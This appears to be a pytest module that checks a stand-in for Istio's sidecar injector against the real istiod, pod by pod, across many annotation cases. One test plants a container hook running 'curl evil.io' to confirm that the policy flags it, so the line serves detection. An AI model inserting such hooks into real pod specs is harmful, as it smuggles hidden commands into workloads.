"""The stand-in for Istio's injector, compared pod by pod with the real istiod."""

import json
from collections.abc import Callable, Iterator
from typing import NamedTuple

import jsonpatch
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as configure

from tests.cluster import workloads
from tests.cluster.api import Json, StatusError, core
from tests.cluster.istiod import Istiod
from tests.cluster.plane import ControlPlane
from tests.fixtures.meshes import istio as fixtures
from tests.fuzz import edits, law
from tests.standins.defaults import differences, stripped
from tests.standins.istio import INJECT, InjectionError, InjectorConfig, inject
from tests.unit.policy.judge import judge, whole_patch

Namespace = Callable[..., str]

CONFIG = "proxy.istio.io/config"
TRAFFIC = "traffic.sidecar.istio.io/"

CUSTOM = {
    "name": "istio-proxy",
    "image": "auto",
    "env": [{"name": "TEAM", "value": "shop"}, {"name": "CA_ADDR", "value": "elsewhere:15012"}],
    "securityContext": {"readOnlyRootFilesystem": False},
    "volumeMounts": [{"name": "scratch", "mountPath": "/tmp/scratch"}],
}
PREPARE = {"name": "prepare", "image": "busybox"}
SECRET = {"name": "workload-certs", "secret": {"secretName": "shop"}}
MOUNT = {
    "name": "gke-workload-certificate",
    "mountPath": "/var/run/secrets/workload-spiffe-credentials",
}
PORTS = [{"containerPort": 8080, "name": "http"}, {"containerPort": 9090, "protocol": "TCP"}]

#: Annotations and parts of the spec that the injector reads.
CASES: dict[str, tuple[dict[str, str], Json]] = {
    "plain": ({}, {}),
    "init container": ({}, {"initContainers": [PREPARE]}),
    "classic": ({"sidecar.istio.io/nativeSidecar": "false"}, {"initContainers": [PREPARE]}),
    "classic, held": (
        {"sidecar.istio.io/nativeSidecar": "false",
         CONFIG: "holdApplicationUntilProxyStarts: true"}, {},
    ),
    "native, held": ({CONFIG: '{"holdApplicationUntilProxyStarts": true}'}, {}),
    "metadata": ({CONFIG: "proxyMetadata: {ISTIO_META_DNS_CAPTURE: 'true', TEAM: shop}"}, {}),
    "hbone": ({CONFIG: "proxyMetadata: {ISTIO_META_ENABLE_HBONE: 'true'}"}, {}),
    "transparent": ({"sidecar.istio.io/interceptionMode": "TPROXY"}, {}),
    "not intercepted": ({"sidecar.istio.io/interceptionMode": "NONE"}, {}),
    "not intercepted, classic": (
        {"sidecar.istio.io/interceptionMode": "NONE", "sidecar.istio.io/nativeSidecar": "false"},
        {"initContainers": [PREPARE]},
    ),
    "not intercepted, by configuration": ({CONFIG: "interceptionMode: TPROXY"}, {}),
    "excluded": (
        {f"{TRAFFIC}excludeInboundPorts": "8080, 9090", f"{TRAFFIC}excludeOutboundPorts": "5432",
         f"{TRAFFIC}excludeOutboundIPRanges": "10.0.0.0/8", f"{TRAFFIC}excludeInterfaces": "eth1"},
        {},
    ),
    "included": (
        {f"{TRAFFIC}includeInboundPorts": "", f"{TRAFFIC}includeOutboundIPRanges": "",
         f"{TRAFFIC}includeOutboundPorts": "443"}, {},
    ),
    "rerouted": ({"istio.io/reroute-virtual-interfaces": "net1"}, {}),
    "status port": ({"status.sidecar.istio.io/port": "8080"}, {}),
    "no status port": ({"status.sidecar.istio.io/port": "0"}, {}),
    "image": ({"sidecar.istio.io/proxyImage": "mirror.example.com/istio/proxyv2:1"}, {}),
    "image type": ({"sidecar.istio.io/proxyImageType": "debug"}, {}),
    "resources": (
        {"sidecar.istio.io/proxyCPU": "10m", "sidecar.istio.io/proxyCPULimit": "1"}, {}
    ),
    "low ports": ({"sidecar.istio.io/capNetBindService": "true"}, {}),
    "bootstrap": ({"sidecar.istio.io/bootstrapOverride": "shop"}, {}),
    "volumes": (
        {"sidecar.istio.io/userVolume": '{"extra": {"emptyDir": {}}}',
         "sidecar.istio.io/userVolumeMount": '{"extra": {"mountPath": "/extra"}}'}, {},
    ),
    "metrics": ({"prometheus.io/scrape": "true", "prometheus.io/port": "8080"}, {}),
    "no metrics": ({"prometheus.io/scrape": "false"}, {}),
    "ports": ({}, {"containers": [{"name": "app", "image": "app", "ports": PORTS}]}),
    "probes": (
        {},
        {"containers": [
            {"name": "app", "image": "app", "ports": PORTS,
             "readinessProbe": {"httpGet": {"path": "/ready", "port": "http"}},
             "livenessProbe": {"tcpSocket": {"port": 8080}, "timeoutSeconds": 2},
             "startupProbe": {"exec": {"command": ["true"]}}},
        ]},
    ),
    "probes of its own": (
        {"sidecar.istio.io/rewriteAppHTTPProbers": "false"},
        {"containers": [{"name": "app", "image": "app",
                         "readinessProbe": {"httpGet": {"path": "/", "port": 8080}}}]},
    ),
    "gateway": (
        {"inject.istio.io/templates": "gateway"},
        {"containers": [{"name": "istio-proxy", "image": "auto"}]},
    ),
    "gateway beside an app": ({"inject.istio.io/templates": "gateway"}, {}),
    "customised": (
        {},
        {"containers": [{"name": "app", "image": "app"}, CUSTOM],
         "volumes": [{"name": "scratch", "emptyDir": {}}]},
    ),
    "customised, classic": (
        {"sidecar.istio.io/nativeSidecar": "false"},
        {"containers": [CUSTOM, {"name": "app", "image": "app"}],
         "volumes": [{"name": "scratch", "emptyDir": {}}]},
    ),
    "own image": (
        {},
        {"containers": [{"name": "app", "image": "app"},
                        {"name": "istio-proxy", "image": "evil", "command": ["sleep"]}]},
    ),
    "own certificates": ({}, {"volumes": [SECRET]}),
    "other certificates": (
        {},
        {"containers": [{"name": "app", "image": "app"},
                        {"name": "istio-proxy", "image": "auto", "volumeMounts": [MOUNT]}],
         "volumes": [{**SECRET, "name": MOUNT["name"]}]},
    ),
    "disabled by label": ({"sidecar.istio.io/inject": "false"}, {}),
}  # fmt: skip

DENIED = {
    "mode": {"sidecar.istio.io/interceptionMode": "SOME"},
    "template": {"inject.istio.io/templates": "shop"},
    "configuration": {CONFIG: "no mapping"},
}


@pytest.fixture
def where(namespace: Namespace) -> str:
    return namespace("istio")


@pytest.fixture(scope="module")
def cni(istio_plane: ControlPlane, istiod: Istiod) -> Iterator[Istiod]:
    """A second revision, in which the CNI plugin redirects; the first must be up before it."""
    values = {"pilot": {"cni": {"enabled": True}}}
    with Istiod(istio_plane, revision="plugin", values=values) as running:
        yield running


class Injected(NamedTuple):
    """A namespace whose pods are injected by one istiod, and a plain pod after its injection."""

    namespace: str
    config: InjectorConfig
    untouched: Json


@pytest.fixture(params=["default", "plugin"])
def injected(
    istio_plane: ControlPlane, istiod: Istiod, cni: Istiod, request: pytest.FixtureRequest
) -> Injected:
    """Each revision in turn, with the fixtures' ServiceAccount."""
    plugin = request.param == cni.revision
    labels = {"istio.io/rev": cni.revision} if plugin else {"istio-injection": "enabled"}
    where = istio_plane.new_namespace("istio", labels=labels)
    istio_plane.api.create(core("ServiceAccount", "shop", where))
    untouched = create(istio_plane, fixtures.app(), where)
    return Injected(where, InjectorConfig(cni=plugin, revision=request.param), untouched)


def create(plane: ControlPlane, submitted: Json, where: str) -> Json:
    """Return a pod as it is stored: after our mutating webhook's patch and the injector."""
    submitted = {**submitted, "metadata": {**submitted["metadata"], "namespace": where}}
    patched = jsonpatch.apply_patch(submitted, whole_patch(submitted, by="istio"))
    return plane.api.create(patched, dry_run=True)


def pod(where: str, annotations: dict[str, str], spec: Json, **labels: str) -> Json:
    marks = {INJECT: "true", "app": "shop", **labels}
    made = workloads.pod(where, labels=marks, **spec)
    made["metadata"]["annotations"] = dict(annotations)
    return made


@configure(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
@given(submitted=edits.submitted("istio"))
def test_whatever_an_author_asks_the_real_istiod_for_is_captured_or_denied(
    plane: ControlPlane, injected: Injected, submitted: Json
) -> None:
    """The fuzzer's law for pods of the real injector. The stand-in's pods are judged alike.

    The stored pods are judged afterwards.
    """
    try:
        stored = create(plane, submitted, injected.namespace)
        made = inject(
            jsonpatch.apply_patch(submitted, whole_patch(submitted, by="istio")), injected.config
        )
    except (StatusError, InjectionError):
        return
    law.holds("istio", edits.Life(submitted, injected.untouched, stored, None))
    assert judge(stored, by="istio").allowed == judge(made, by="istio").allowed


def test_what_only_the_untouched_pod_shows_the_law_sees(
    plane: ControlPlane, injected: Injected
) -> None:
    submitted = fixtures.app()
    hook = {"postStart": {"exec": {"command": ["curl", "evil.io"]}}}
    submitted["spec"]["initContainers"] = [
        {"name": "istio-proxy", "image": "auto", "lifecycle": hook}
    ]
    stored = create(plane, submitted, injected.namespace)
    assert law.complaints("istio", injected.untouched, injected.untouched) == []
    assert law.complaints("istio", stored) == []
    assert law.complaints("istio", stored, injected.untouched) == ["istio-proxy runs curl evil.io"]


def essence(pod: Json) -> Json:
    """Return what the injector sets in a pod, without defaults and without empty values."""
    spec = pod["spec"]
    annotations = {
        key: json.loads(value)
        if key in ("sidecar.istio.io/status", "proxy.istio.io/overrides")
        else value
        for key, value in pod["metadata"]["annotations"].items()
    }
    found = {
        "labels": pod["metadata"]["labels"],
        "annotations": annotations,
        "volumes": sorted(spec.get("volumes") or (), key=lambda volume: volume["name"]),
    }
    for place in ("initContainers", "containers"):
        found[place] = [_container(container) for container in spec.get(place) or ()]
    without: Json = stripped(found)
    return without


def _container(container: Json) -> Json:
    env = {}
    for variable in container.get("env") or ():
        value = variable.get("valueFrom") or variable.get("value", "")
        if isinstance(value, str) and value.lstrip()[:1] in ("{", "["):
            value = json.loads(value)
        env[variable["name"]] = value
    mounts = sorted(container.get("volumeMounts") or (), key=lambda mount: mount["mountPath"])
    return {**container, "env": env, "volumeMounts": mounts}


@pytest.mark.parametrize("case", CASES)
@pytest.mark.parametrize("plugin", [False, True], ids=["istio-init", "CNI plugin"])
def test_the_stand_in_makes_what_istiod_makes(
    plane: ControlPlane, cni: Istiod, where: str, plugin: bool, case: str
) -> None:
    annotations, spec = CASES[case]
    labels = {"istio.io/rev": cni.revision} if plugin else {}
    submitted = pod(where, annotations, spec, **labels)
    config = InjectorConfig(cni=plugin, revision=cni.revision if plugin else "default")
    stored = plane.api.create(submitted, dry_run=True)
    found = differences(essence(stored), essence(inject(submitted, config)))
    assert not found, "\n".join(found)


@pytest.mark.parametrize("annotations", DENIED.values(), ids=DENIED)
def test_both_deny_the_same_pods(
    plane: ControlPlane, istiod: Istiod, where: str, annotations: dict[str, str]
) -> None:
    submitted = pod(where, annotations, {})
    with pytest.raises(StatusError, match=r"sidecar-injector\.istio\.io"):
        plane.api.create(submitted, dry_run=True)
    with pytest.raises(InjectionError):
        inject(submitted)


def test_both_skip_the_same_pods(plane: ControlPlane, istiod: Istiod, namespace: Namespace) -> None:
    where = namespace("istio", labels={"istio-injection": "enabled"})
    for annotations, spec in (
        ({INJECT: "false"}, {}),
        ({}, {"hostNetwork": True, "containers": [{"name": "app", "image": "app"}]}),
    ):
        submitted = pod(where, annotations, spec)
        del submitted["metadata"]["labels"][INJECT]
        stored = plane.api.create(submitted, dry_run=True)
        assert [c["name"] for c in stored["spec"]["containers"]] == ["app"]
        assert "initContainers" not in stored["spec"]
        assert inject(submitted) == submitted
